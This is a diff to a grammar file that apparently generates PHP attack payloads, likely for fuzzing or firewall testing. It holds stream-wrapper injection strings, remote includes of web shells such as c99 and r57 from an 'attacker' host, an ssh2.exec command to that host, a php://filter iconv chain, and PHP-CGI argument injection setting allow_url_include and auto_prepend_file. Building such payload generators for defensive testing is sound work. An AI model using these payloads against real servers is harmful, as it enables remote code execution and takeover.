@@ -103,14 +103,13 @@ php_path := *2 'php://input' ¦ $_«php_super»['«ab»'] ¦ '«url»' ¦ '«uni
 php_wrapper := *2 php://input ¦ data://text/plain;base64,«php_inner|b64» ¦ data://text/plain,<?php «php_stmt» ?>
   ¦ data:text/plain,<?=«php_expr»?> ¦ data:;base64,«php_inner|b64» ¦ expect://«unix_info» ¦ «url».php? ¦ «url».txt%00
   ¦ «scheme»://«attacker»/«=shell~cmd~c99~r57~x~info~b374k».«=txt~php~gif»?
-  ¦ php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.«=L6.UNICODE~UTF16.EUCTW~SJIS.EUCJP~R9.ISO6937»|convert.base64-decode/resource=php://temp
+  ¦ @2022 php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.«=L6.UNICODE~UTF16.EUCTW~SJIS.EUCJP~R9.ISO6937»|convert.base64-decode/resource=php://temp
   ¦ phar://«rand».«=jpg~phar»/«rand».php ¦ zip://«rand».«=jpg~zip»%23«rand» ¦ ogg://«rand»
   ¦ ssh2.exec://«word»:«rand»@«attacker»/«unix_bin» ¦ php://temp ¦ php://output ¦ php://stdin ¦ php://memory
   ¦ ftp://«attacker»/«rand».php ¦ glob:///«rand»* ¦ zlib:«unix_file» ¦ rar://«rand».rar
   ¦ «=+~?+»config-create+/&/<?=«php_call»?>+/tmp/«rand».php ¦ data:image/png;base64,«php_inner|b64»
 php_config := *2 -d allow_url_include=«=1~on» -d auto_prepend_file=php://input
-  ¦ -d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
-  ¦ %ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input ¦ «php_ini»=«=1~0~on~off~none~»
+  ¦ -d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input ¦ «php_ini»=«=1~0~on~off~none~»
   ¦ auto_prepend_file=«=php://input~/tmp/x~.user.ini~data:;base64,PD8=» ¦ -d «php_ini»=«d» ¦ php_value «php_ini» «rand»
   ¦ php_flag «php_ini» on ¦ ini_set("«php_ini»",«d») ¦ disable_functions= ¦ open_basedir=/ ¦ -s
   ¦ -n -d «php_ini»="«rand»"
